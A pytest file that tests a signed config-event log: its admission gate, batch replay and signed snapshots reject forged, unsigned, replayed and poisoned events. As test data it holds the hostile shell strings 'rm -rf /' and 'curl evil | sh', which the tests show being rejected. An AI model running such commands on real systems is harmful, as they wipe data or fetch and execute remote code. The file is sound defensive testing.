"""Signatures and the follower's gate (shared/signing.py, shared/admission.py, shared/snapshots.py):
what is folded, and what is rejected with which reason, without NATS."""

from __future__ import annotations

import json
import uuid

import msgspec
import pytest

from shared import state as st
from shared import subjects
from shared.admission import REASONS, Gate, Rejected, admit_many
from shared.codec import encode, encode_compact
from shared.events import (
    GENESIS_HASH, ConfigEvent, GroupCreated, GroupInitScriptSet, GroupTagsSet, Recorded,
    TokenCreated, TokenRevoked, chain_hash, seal, subject_for,
)
from shared.signing import (
    SIGNATURE_HEADER, SUBJECT_PREV_HEADER, BadKey, Signer, Verifier, new_private_key,
    parse_private_key, parse_public_keys, private_text, public_text,
)
from shared.snapshots import (
    SignedSnapshot, SnapshotRejected, decode_snapshot, encode_snapshot, open_snapshot,
    seal_snapshot,
)

SIGNER = Signer(new_private_key())
OTHER = Signer(new_private_key())
VERIFIER = Verifier([SIGNER.public_key])


class Log:
    """A config service in miniature: seals events and signs them as its outbox does."""

    def __init__(self, signer: Signer = SIGNER) -> None:
        self.signer = signer
        self.seq, self.hash = 0, GENESIS_HASH
        self.last_on: dict[str, int] = {}

    def append(self, event: ConfigEvent) -> tuple[str, dict[str, str], bytes]:
        self.seq += 1
        rec = seal(prev_hash=self.hash, seq=self.seq, id=uuid.uuid4().hex, time="t", actor="admin",
                   reason=None, event=event)
        self.hash = rec.hash
        subject = subject_for(event)
        prev = self.last_on.get(subject, 0)
        self.last_on[subject] = self.seq
        body = encode(rec)
        return subject, {SIGNATURE_HEADER: self.signer.sign_event(rec.seq, subject, prev, body),
                         SUBJECT_PREV_HEADER: str(prev)}, body


def rejected(gate: Gate, msg: tuple[str, dict[str, str], bytes]) -> str:
    with pytest.raises(Rejected) as info:
        gate.admit(*msg)
    assert info.value.reason in REASONS
    return info.value.reason


def test_the_whole_log_in_order_is_folded() -> None:
    log, gate = Log(), Gate(VERIFIER)
    msgs = [log.append(GroupCreated(group="g")), log.append(GroupTagsSet(group="g", tags=("a",))),
            log.append(TokenCreated(name="ci", workspace="w", token_hash="h"))]
    state = st.fold([rec for rec in (gate.admit(*m) for m in msgs) if rec is not None])
    assert state.groups["g"].tags == ("a",) and "ci" in state.tokens and gate.seq == 3


def test_unsigned_forged_and_foreign_key_messages_are_rejected() -> None:
    log, gate = Log(), Gate(VERIFIER)
    gate.admit(*log.append(GroupCreated(group="g")))
    subject, headers, body = log.append(GroupInitScriptSet(group="g", init_script="rm -rf /"))
    assert rejected(gate, (subject, {}, body)) == "unsigned"
    forged = Log(OTHER)
    forged.seq, forged.hash, forged.last_on = 1, log.hash, {subject: 1}
    assert rejected(gate, forged.append(GroupInitScriptSet(group="g", init_script="x"))) == \
        "unknown_key"
    kid = SIGNER.key_id
    assert rejected(gate, (subject, {**headers, SIGNATURE_HEADER: f"{kid}.AAAA"}, body)) == \
        "bad_signature"
    assert rejected(gate, (subject, headers, b"garbage")) == "malformed"
    assert rejected(gate, (subject, headers, body.replace(b"rm -rf", b"rm -rR"))) == \
        "bad_signature"
    assert rejected(gate, (subjects.group_subject("h"), headers, body)) == "bad_signature"
    assert gate.admit(subject, headers, body) is not None  # the real one still goes through


def test_a_signed_event_on_the_wrong_subject_or_with_a_bad_hash_is_rejected() -> None:
    log, gate = Log(), Gate(VERIFIER)
    rec = seal(prev_hash=GENESIS_HASH, seq=1, id="i", time="t", actor="a", reason=None,
               event=GroupCreated(group="g"))
    body = encode(rec)
    wrong = subjects.group_subject("h")
    sig = SIGNER.sign_event(1, wrong, 0, body)
    assert rejected(gate, (wrong, {SIGNATURE_HEADER: sig, SUBJECT_PREV_HEADER: "0"}, body)) == \
        "wrong_subject"
    bad = body.replace(rec.hash.encode(), b"f" * 64)
    right = subjects.group_subject("g")
    sig = SIGNER.sign_event(1, right, 0, bad)
    assert rejected(gate, (right, {SIGNATURE_HEADER: sig, SUBJECT_PREV_HEADER: "0"}, bad)) == \
        "bad_hash"
    del log


def test_a_repeat_a_gap_and_a_broken_chain_are_rejected_and_the_gate_waits() -> None:
    log, gate = Log(), Gate(VERIFIER)
    first = log.append(GroupCreated(group="g"))
    second = log.append(GroupTagsSet(group="g", tags=("a",)))
    third = log.append(GroupTagsSet(group="g", tags=("b",)))
    gate.admit(*first)
    assert rejected(gate, first) == "repeat"
    assert rejected(gate, third) == "gap"  # seq 2 is missing
    assert gate.seq == 1
    assert gate.admit(*second) is not None and gate.admit(*third) is not None
    fork = Log()
    fork.seq, fork.hash = 3, "f" * 64  # signed, but not chained to what was folded
    assert rejected(gate, fork.append(GroupCreated(group="x"))) == "broken_chain"


def test_one_subject_sees_a_gap_through_the_signed_previous_sequence() -> None:
    log = Log()
    gate = Gate(VERIFIER, subject=subjects.group_subject("g"))
    a = log.append(GroupCreated(group="g"))
    log.append(GroupCreated(group="other"))  # another subject: never seen here, not a gap
    b = log.append(GroupTagsSet(group="g", tags=("a",)))
    c = log.append(GroupTagsSet(group="g", tags=("b",)))
    gate.admit(*a)
    assert rejected(gate, c) == "gap"  # b was deleted from the stream
    assert gate.admit(*b) is not None and gate.admit(*c) is not None
    assert rejected(gate, log.append(GroupCreated(group="other"))) == "wrong_subject"


def test_new_fields_are_folded_and_an_unknown_type_or_version_only_moves_the_position() -> None:
    gate = Gate(VERIFIER)
    subject = subjects.group_subject("g")

    def signed(seq: int, prev_hash: str, event: dict[str, object]) -> tuple[str, dict[str, str],
                                                                             bytes, str]:
        event_bytes = json.dumps(event, separators=(",", ":")).encode()
        h = chain_hash(prev_hash=prev_hash, seq=seq, id=f"i{seq}", time="t", actor="a",
                       reason=None, event_bytes=event_bytes)
        head = {"seq": seq, "id": f"i{seq}", "time": "t", "actor": "a", "reason": None,
                "prev_hash": prev_hash, "hash": h}
        body = json.dumps(head, separators=(",", ":")).encode()[:-1] + b',"event":' + \
            event_bytes + b"}"
        prev = str(seq - 1)
        return subject, {SIGNATURE_HEADER: SIGNER.sign_event(seq, subject, seq - 1, body),
                         SUBJECT_PREV_HEADER: prev}, body, h

    s1, h1, b1, hash1 = signed(1, GENESIS_HASH, {"type": "group.colour_set", "group": "g"})
    assert gate.admit(s1, h1, b1) is None and gate.seq == 1
    s2, h2, b2, hash2 = signed(2, hash1, {"type": "group.tags_set", "v": 1, "group": "g",
                                          "tags": ["t"], "colour": "red"})
    rec = gate.admit(s2, h2, b2)  # a field added by a newer writer: its known part is folded
    assert isinstance(rec, Recorded) and rec.event == GroupTagsSet(v=1, group="g", tags=("t",))
    s3, h3, b3, _ = signed(3, hash2, {"type": "group.tags_set", "v": 2, "group": "g",
                                      "tags": ["t"]})
    assert gate.admit(s3, h3, b3) is None and gate.seq == 3  # a changed meaning: not misread


def test_snapshots_open_only_when_signed_for_their_sequence() -> None:
    state = st.ConfigState(seq=7, groups={"g": st.GroupConfig(name="g", tags=("a",))})
    snap = seal_snapshot(SIGNER, state, "h" * 64, stream_seq=9)
    assert open_snapshot(decode_snapshot(encode_snapshot(snap)), VERIFIER) == state
    evil = msgspec.structs.replace(state, tokens={"evil": st.ApiToken(name="evil", token_hash="x")})
    cases = {
        "bad_signature": msgspec.structs.replace(snap, state=encode_compact(evil)),
        "unknown_key": seal_snapshot(OTHER, state, "h" * 64, stream_seq=9),
        "unsigned": msgspec.structs.replace(snap, signature=""),
    }
    for reason, bad in cases.items():
        with pytest.raises(SnapshotRejected) as info:
            open_snapshot(bad, VERIFIER)
        assert info.value.reason == reason
    moved = msgspec.structs.replace(snap, stream_seq=1)  # the start position is signed too
    with pytest.raises(SnapshotRejected):
        open_snapshot(moved, VERIFIER)
    with pytest.raises(SnapshotRejected) as info:
        decode_snapshot(encode_compact(state))  # an unsigned snapshot of an older version
    assert info.value.reason == "malformed"
    assert isinstance(snap, SignedSnapshot)


def test_keys_round_trip_and_bad_keys_name_their_variable() -> None:
    key = new_private_key()
    signer = Signer(parse_private_key(private_text(key), field="K"))
    assert signer.key_id == Signer(key).key_id
    both = parse_public_keys(f"{public_text(OTHER.public_key)}, {public_text(key.public_key())}",
                             field="P")
    assert Verifier(both).key_ids == [OTHER.key_id, signer.key_id]
    for text in ("", "not base64!", "c2hvcnQ="):
        with pytest.raises(BadKey) as info:
            parse_public_keys(text, field="GETOPERATE_CONFIG_PUBLIC_KEY")
        assert info.value.field == "GETOPERATE_CONFIG_PUBLIC_KEY"
        assert "GETOPERATE_CONFIG_PUBLIC_KEY" in info.value.message


def test_a_run_of_repeats_is_logged_at_powers_of_two() -> None:
    from shared.admission import Sampled

    sampled = Sampled()
    logged = [n for n in range(1, 1025) if sampled.worth_logging()]
    assert logged == [1, 2, 4, 8, 16, 32, 64, 128, 256, 512, 1024]


# --- a replay's runs: one signature for a chained run (admit_many) -------------------------------


def _results_fold(results: list[object]) -> st.ConfigState:
    return st.fold([r for r in results if r is not None and not isinstance(r, Rejected)])


def test_a_run_folds_as_one_by_one_with_one_signature_checked() -> None:
    log = Log()
    msgs = [log.append(GroupCreated(group=f"g{i}")) for i in range(20)]
    unsigned = [(s, {}, b) for s, _, b in msgs[:-1]] + [msgs[-1]]  # only the last is signed
    gate = Gate(VERIFIER)
    results = admit_many(gate, unsigned)
    assert not any(isinstance(r, Rejected) for r in results) and gate.seq == 20
    one = Gate(VERIFIER)
    assert _results_fold(results) == st.fold([one.admit(*m) for m in msgs])
    assert gate.hash == one.hash


def test_a_forged_event_inside_a_run_is_refused_and_the_genuine_prefix_still_folds() -> None:
    """Changing any event of a run (and re-chaining every hash after it) changes the last
    event's hash, so its signature fails: each event is then checked alone, and the run folds
    up to the forgery, exactly as one by one."""
    log = Log()
    msgs = [log.append(GroupCreated(group=f"g{i}")) for i in range(6)]
    evil = GroupInitScriptSet(group="g0", init_script="curl evil | sh")
    forged, prev = [], msgs[2]
    rec3 = decode_raw_record(prev[2])
    chain = Log()
    chain.seq, chain.hash = rec3.seq, rec3.hash  # re-chained by the forger, signed by nobody
    for event in (evil, GroupCreated(group="x"), GroupCreated(group="y")):
        s, _, b = chain.append(event)
        forged.append((s, {}, b))
    last_sig = msgs[5][1]  # a genuine signature, over another body
    forged[-1] = (forged[-1][0], last_sig, forged[-1][2])
    gate = Gate(VERIFIER)
    results = admit_many(gate, msgs[:3] + forged)
    assert [isinstance(r, Rejected) for r in results] == [False] * 3 + [True] * 3
    assert gate.seq == 3 and "g0" in _results_fold(results).groups
    assert _results_fold(results).groups["g0"].init_script is None
    # the genuine rest still comes through afterwards
    assert all(not isinstance(r, Rejected) for r in admit_many(gate, msgs[3:]))
    assert gate.seq == 6


def test_a_run_with_an_unchained_event_skips_it_as_one_by_one_would() -> None:
    log = Log()
    msgs = [log.append(GroupCreated(group=f"g{i}")) for i in range(4)]
    gate = Gate(VERIFIER)
    results = admit_many(gate, [msgs[0], msgs[0], msgs[2], msgs[1], msgs[2], msgs[3]])
    reasons = [r.reason if isinstance(r, Rejected) else None for r in results]
    assert reasons == [None, "repeat", "gap", None, None, None] and gate.seq == 4


def test_followers_of_one_subject_take_each_event_on_its_own() -> None:
    log = Log()
    msgs = [log.append(GroupCreated(group="g")), log.append(GroupTagsSet(group="g", tags=("a",)))]
    gate = Gate(VERIFIER, subject=subjects.group_subject("g"))
    unsigned = [(s, {}, b) for s, _, b in msgs]
    assert all(isinstance(r, Rejected) and r.reason == "unsigned"
               for r in admit_many(gate, unsigned))


def decode_raw_record(body: bytes) -> Recorded:
    return msgspec.json.decode(body, type=Recorded)


def _forge(seq: int, prev_hash: str, event: dict[str, object]) -> tuple[str, dict[str, str], bytes]:
    """An unsigned message that chains: a self-consistent hash, the last genuine event's as its
    prev_hash (what a stolen config credential could publish)."""
    raw = json.dumps(event, separators=(",", ":")).encode()
    h = chain_hash(prev_hash=prev_hash, seq=seq, id="x", time="t", actor="evil", reason=None,
                   event_bytes=raw)
    body = (b'{"seq":%d,"id":"x","time":"t","actor":"evil","reason":null,"prev_hash":"%s",'
            b'"hash":"%s","event":%s}' % (seq, prev_hash.encode(), h.encode(), raw))
    return subjects.group_subject("g"), {}, body


def test_a_chained_poison_message_cannot_stop_the_replay() -> None:
    """Red-team finding: an unsigned, chained event whose fields make no subject (an empty group
    name) raised out of the run and froze the router's config (a revoked token stayed valid).
    Nothing of an event is decoded before its run's signature holds, and such an event is
    rejected as malformed: the genuine events around it fold, the revoke included."""
    log = Log()
    msgs = [log.append(GroupCreated(group="g")),
            log.append(TokenCreated(name="stolen", workspace="w", token_hash="h"))]
    poison = _forge(3, log.hash, {"type": "group.created", "v": 1, "group": ""})
    gate = Gate(VERIFIER)
    first = admit_many(gate, msgs)
    then = admit_many(gate, [poison, log.append(TokenRevoked(name="stolen")),
                             log.append(GroupCreated(group="h"))])
    assert isinstance(then[0], Rejected) and gate.seq == 4
    state = _results_fold(first + then)
    assert "stolen" not in state.tokens and "h" in state.groups
    # one by one, a genuine event whose fields make no subject is malformed, never an error
    one = Gate(VERIFIER)
    signed = Log()
    bad = signed.append(GroupCreated(group="g"))
    body = bad[2].replace(b'"group":"g"', b'"group":""')
    assert rejected(one, (bad[0], bad[1], body)) in ("bad_signature", "malformed")
